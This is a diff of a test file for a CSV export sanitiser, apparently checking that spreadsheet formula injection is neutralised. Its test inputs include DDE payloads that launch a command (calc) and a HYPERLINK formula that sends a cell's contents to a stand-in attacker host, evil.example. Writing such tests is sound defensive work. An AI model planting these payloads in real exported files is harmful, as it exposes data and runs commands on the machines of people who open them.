@@ -4,9 +4,9 @@ import { neutraliseCell, safeCsv } from './csv';
 describe('CSV export cells', () => {
   const payloads: [string, string][] = [
     ['=', '=HYPERLINK("http://evil.example/?x="&A1,"click")'],
-    ['+', '+cmd|\' /C calc\'!A0'],
-    ['-', '-2+3+cmd|\' /C calc\'!A0'],
-    ['@', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
+    ['+', "+cmd|' /C calc'!A0"],
+    ['-', "-2+3+cmd|' /C calc'!A0"],
+    ['@', "@SUM(1+1)*cmd|' /C calc'!A0"],
     ['tab', '\t=1+1'],
     ['carriage return', '\r=1+1'],
   ];
